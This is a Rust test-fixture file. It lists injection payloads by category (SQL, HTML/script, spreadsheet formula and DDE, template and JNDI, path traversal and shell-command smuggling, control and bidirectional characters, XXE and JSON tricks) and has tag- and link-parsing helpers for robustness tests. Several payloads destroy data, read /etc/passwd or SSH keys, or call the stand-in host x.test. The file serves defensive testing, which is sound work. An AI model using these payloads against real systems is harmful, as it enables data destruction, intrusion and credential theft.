//! 攻击文字: what somebody might say on the telephone, write in a letter or put into a file so that some
//! program takes it for more than text. Made up for these tests; none of it does anything by itself.

/// What a database might take for a command.
const SQL: [&str; 26] = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE work_order; --",
    "'); DELETE FROM event; --",
    "1; UPDATE staff SET roles='admin'",
    "' UNION SELECT key FROM meta --",
    "' UNION ALL SELECT NULL,NULL,NULL --",
    "x' AND 1=(SELECT count(*) FROM draft) --",
    "'||(SELECT sql FROM sqlite_master)||'",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "'; PRAGMA key=''; --",
    "'; PRAGMA writable_schema=1; --",
    "\\'; SELECT load_extension('x') --",
    "%' AND '%'='",
    "_%_%_%",
    "?1 ?2 :id @id $1",
    "'; COPY audit TO '/tmp/x'; --",
    "'; SELECT pg_sleep(30); --",
    "$$; DROP SCHEMA public CASCADE; $$",
    "/*' or '*/1=1",
    "0x27204f522031",
    "CAST(1 AS TEXT)||x'00'",
    "NULL",
    "\"title\":* NEAR(a b, 1)",
    "{title text}: a AND NOT b OR \"c",
];

/// What a page might take for a piece of itself.
const PAGE: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script\u{c}>alert(3)</script >",
    "</script><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "</style><script>alert(7)</script>",
    "<!--><script>alert(8)</script-->",
    "<![CDATA[<script>alert(9)</script>]]>",
    "<img src=x onerror=alert(10)>",
    "<img/src='x'/onerror='alert(11)'>",
    "<img src=\"http://x.test/see.png\">",
    "<svg onload=alert(12)>",
    "<svg><animate onbegin=alert(13) attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x>",
    "<iframe src=javascript:alert(14)>",
    "<iframe srcdoc='<script>alert(15)</script>'>",
    "<object data=x.html></object>",
    "<embed src=x.swf>",
    "<applet code=x></applet>",
    "<form action=//x.test><input name=password>",
    "<button formaction=javascript:alert(16)>点",
    "<input autofocus onfocus=alert(17)>",
    "<details open ontoggle=alert(18)>",
    "<video><source onerror=alert(19)>",
    "<audio src=x onerror=alert(20)>",
    "<body onload=alert(21)>",
    "<base href=//x.test/>",
    "<link rel=stylesheet href=//x.test/x.css>",
    "<meta http-equiv=refresh content=0;url=//x.test>",
    "<style>@import '//x.test/x.css';</style>",
    "<p style=background:url(javascript:alert(22))>",
    "<a href=javascript:alert(23)>看这里</a>",
    "<a href=\"&#106;avascript:alert(24)\">看这里</a>",
    "<a href=data:text/html,x>看这里</a>",
    "<marquee onstart=alert(25)>",
    "<template><script>alert(26)</script></template>",
    "<slot name=x><b>粗</b>",
    "\" onmouseover=\"alert(27)",
    "' onmouseover='alert(28)",
    "\"><script>alert(29)</script>",
    "'><img src=x onerror=alert(30)>",
    "`><img src=x onerror=alert(31)>",
    "--><script>alert(32)</script>",
    "]]><script>alert(33)</script>",
    "&lt;script&gt;alert(34)&lt;/script&gt;",
    "&#60;script&#62;alert(35)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(36)&amp;gt;",
    "%3Cscript%3Ealert(37)%3C/script%3E",
    "\\u003cscript\\u003ealert(38)\\u003c/script\\u003e",
    "＜script＞alert(39)＜/script＞",
    "javascript:alert(40)//",
    "[看这里](javascript:alert(41))",
    "[看这里](<javascript:alert(42)>)",
    "![图](http://x.test/see.png)",
    "![图](x\"onerror=\"alert(43))",
    "[一]: javascript:alert(44)",
    "<javascript:alert(45)>",
    "<b>粗</b><i>斜</i><u>线</u>",
    "{{constructor.constructor('alert(46)')()}}",
];

/// What a spreadsheet might calculate.
const FORMULA: [&str; 26] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.test/?\"&A1,\"点\")",
    "=WEBSERVICE(\"http://x.test/\"&A2)",
    "=IMPORTXML(\"http://x.test\",\"//a\")",
    "=IMAGE(\"http://x.test/x.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(A1:A9)",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "＝1+1",
    "＋1+1",
    "\t=1+1",
    " =1+1",
    "\"=1+1\"",
    "'=1+1",
    ";=1+1",
    ",=1+1,\"\"",
    "=1+1\n=2+2",
    "_x003D_1+1",
    "{=SUM(A1:A9)}",
];

/// What a template might fill in, or a formatter look up.
const TEMPLATE: [&str; 28] = [
    "{{编号}}",
    "{{诉求人}}",
    "{{#工单}}{{编号}}{{/工单}}",
    "{{打印人}}{{打印时间}}",
    "{{ 编号 }}",
    "{{{编号}}}",
    "{{articles}}",
    "{{编号",
    "编号}}",
    "{编号}",
    "${编号}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in y %}{{ x }}{% endfor %}",
    "{{7*7}}",
    "$(whoami)",
    "`whoami`",
    "%s%s%s%n",
    "%1$s {0} {}",
    "${jndi:ldap://x.test/a}",
    "@{x}",
    "[[x]]",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "<w:fldSimple w:instr=\"DATE\"/>",
    "</w:t></w:r><w:r><w:t>",
    "INCLUDETEXT \"file:///etc/passwd\"",
    "MERGEFIELD 编号 \\* MERGEFORMAT",
];

/// What a file system or a shell might follow.
const PATH: [&str; 28] = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\System32",
    "\\\\x.test\\share\\x",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc",
    "%00.pdf",
    "x.pdf%00.exe",
    "~/.ssh/id_rsa",
    "CON",
    "NUL.txt",
    "a:b:c",
    "x/../../y",
    ".",
    "..",
    ".htaccess",
    "desk.db-wal",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& shutdown -h now",
    "$HOME/x",
    "-rf",
    "--help",
    "*?[]<>|\"",
];

/// What a terminal, a log or a line might be broken by.
const CONTROL: [&str; 28] = [
    "甲\u{0}乙",
    "甲\u{1}乙",
    "甲\u{7}乙",
    "甲\u{8}\u{8}乙",
    "甲\u{b}乙",
    "甲\u{1b}[31m乙",
    "甲\u{1b}]0;标题\u{7}乙",
    "甲\u{1b}[2J乙",
    "甲\u{7f}乙",
    "甲\u{85}乙",
    "甲\u{9b}31m乙",
    "甲\r乙",
    "甲\r\n乙: 丙",
    "甲\n2026-11-23 审计 通过",
    "甲\r\nSet-Cookie: a=b",
    "甲\r\n\r\n<html>",
    "甲\tb\tc",
    "甲\u{2028}乙",
    "甲\u{2029}乙",
    "甲\u{fffe}乙",
    "甲\u{ffff}乙",
    "甲\u{fffd}乙",
    "甲\u{feff}乙",
    "甲\u{e000}乙",
    "甲\u{1fffe}乙",
    "甲\u{10ffff}乙",
    "甲\u{ad}乙",
    "甲\u{e0041}乙",
];

/// What is read otherwise than it stands.
const DIRECTION: [&str; 24] = [
    "甲\u{202e}fdp.exe",
    "甲\u{202d}乙\u{202c}",
    "甲\u{2066}乙\u{2069}",
    "甲\u{2067}乙\u{2069}",
    "甲\u{2068}乙\u{2069}",
    "甲\u{200f}乙",
    "甲\u{200e}乙",
    "甲\u{61c}乙",
    "甲\u{200b}乙",
    "甲\u{200c}乙",
    "甲\u{200d}乙",
    "甲\u{2060}乙",
    "甲\u{180e}乙",
    "甲\u{3000}乙",
    "甲\u{a0}乙",
    "аdmin（西里尔字母）",
    "１３８００００１２３４",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{5d0}\u{5d1}\u{5d2}甲",
    "\u{627}\u{644}\u{633}甲",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦",
    "🇨🇳\u{20e3}\u{fe0f}",
    "𠮷野家𠀀",
    "㍿㌀㎒",
];

/// What a reader of XML, JSON, YAML or of a search might take for its own.
const MARKS: [&str; 38] = [
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "<!ENTITY % x SYSTEM \"http://x.test/x.dtd\"> %x;",
    "&b;&c;&d;",
    "<xi:include href=\"file:///etc/passwd\"/>",
    "<?php echo 1; ?>",
    "<?import namespace=x?>",
    "]]>",
    "<![CDATA[",
    "<!--",
    "-->",
    "{\"is_admin\":true}",
    "\",\"is_admin\":true,\"x\":\"",
    "\\\",\\\"x\\\":1",
    "{\"$ne\":null}",
    "{\"__proto__\":{\"x\":1}}",
    "[object Object]",
    "undefined",
    "true",
    "-1",
    "1e999",
    "NaN",
    "!!python/object:x",
    "&a *a",
    "--- a\n...",
    "*)(uid=*",
    "a AND b OR NOT c",
    "\"没有收尾",
    "(((((((",
    "a*b?c~2^3",
    "field:value",
    "(?i)(a+)+$",
    "\\",
    "\\\\",
    "\\n\\r\\0",
    "'",
    "\"",
    "`",
    "data:text/html;base64,PHNjcmlwdD4=",
];

/// Every text as it stands, and in the middle of what somebody might say besides.
pub fn hostile() -> Vec<String> {
    let kinds: [&[&str]; 8] = [
        &SQL, &PAGE, &FORMULA, &TEMPLATE, &PATH, &CONTROL, &DIRECTION, &MARKS,
    ];
    let texts = kinds.iter().flat_map(|kind| kind.iter());
    texts
        .flat_map(|text| [(*text).to_owned(), format!("门口{text}路灯")])
        .collect()
}

/// The tags of a page or a file in XML, each once: what is text makes none.
pub fn tags(markup: &str) -> std::collections::BTreeSet<String> {
    let begun = markup.split('<').skip(1);
    let names = begun.map(|after| {
        let is_of_name = |c: &char| c.is_ascii_alphanumeric() || "/!?:-_.".contains(*c);
        after.chars().take_while(is_of_name).collect::<String>()
    });
    names.collect()
}

/// What stands in the links of a page, in small letters: where they lead, and what they do besides.
pub fn links(markup: &str) -> Vec<String> {
    let markup = markup.to_lowercase();
    let begun = markup.split("<a ").skip(1);
    begun
        .filter_map(|after| after.split('>').next())
        .map(str::to_owned)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn they_are_many_and_each_is_another() {
        let texts = hostile();
        let different: std::collections::BTreeSet<&String> = texts.iter().collect();
        assert_eq!(different.len(), texts.len());
        assert!(texts.len() >= 500, "{}", texts.len());
        assert!(texts.iter().all(|text| !text.trim().is_empty()));
        // As long as a title may be.
        assert!(texts.iter().all(|text| text.chars().count() <= 100));
    }

    #[test]
    fn a_tag_is_what_begins_with_an_angle() {
        let found = tags("<p>a &lt;b&gt;</p><img src=x>1 < 2");
        let found: Vec<&str> = found.iter().map(String::as_str).collect();
        assert_eq!(found, ["", "/p", "img", "p"]);
        let page = "&lt;a href=x&gt;<A HREF=\"JavaScript:x\">y</A><a class=z>";
        assert_eq!(links(page), ["href=\"javascript:x\"", "class=z"]);
    }
}
